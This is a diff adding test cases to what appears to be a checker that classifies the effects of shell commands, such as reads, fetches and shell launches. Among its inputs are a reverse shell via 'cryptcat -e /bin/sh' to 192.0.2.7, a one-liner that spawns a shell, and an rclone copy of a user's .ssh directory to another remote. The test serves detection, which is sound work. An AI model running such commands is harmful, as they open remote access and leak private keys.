@@ -41,6 +41,12 @@ describe('beliefs about programs that were mended', () => {
     ['rclone copy store:home/ann/.ssh other:x', ['send other:x'], ['fetch store:home/ann/.ssh']],
     ['npx --editor /tmp/x.sh cowsay', [], ['run /tmp/x.sh']],
     ['msgexec -D po -i de.po cat', ['read de.po'], ['read cat']],
+    ['gpgtar -e -C docs -r ann notes', ['read-tree docs/notes'], ['unpack docs']],
+    ['gretlcli -e run.inp', ['read run.inp'], []],
+    ['gretlcli -i https://example.org/x.gfn', ['fetch https://example.org/x.gfn'], []],
+    ['tar2sqfs -r usr out.sqfs', ['write out.sqfs'], ['write usr']],
+    ["bqn -e '!sh'", [], ['shell sh']],
+    ['cryptcat -e /bin/sh 192.0.2.7 4444', ['remote-shell 192.0.2.7:4444'], []],
   ])('%s', (command, has, hasNot) => {
     const effects = effectsOf(command)
     expect(effects).toEqual(expect.arrayContaining(has))
